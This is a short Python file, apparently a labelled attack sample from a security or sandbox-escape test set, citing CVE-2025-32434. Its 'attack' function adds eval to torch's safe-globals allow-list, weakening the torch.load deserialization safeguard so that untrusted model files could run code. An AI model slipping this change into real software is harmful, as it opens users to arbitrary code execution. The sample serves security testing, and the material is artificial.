"""Class: module gadget. Source: CVE-2025-32434. Escape: the list of what torch.load trusts is
extended.
"""

import torch


def attack(model, tokenizer, address):
    torch.serialization.add_safe_globals([eval])
    return torch.serialization.get_safe_globals()
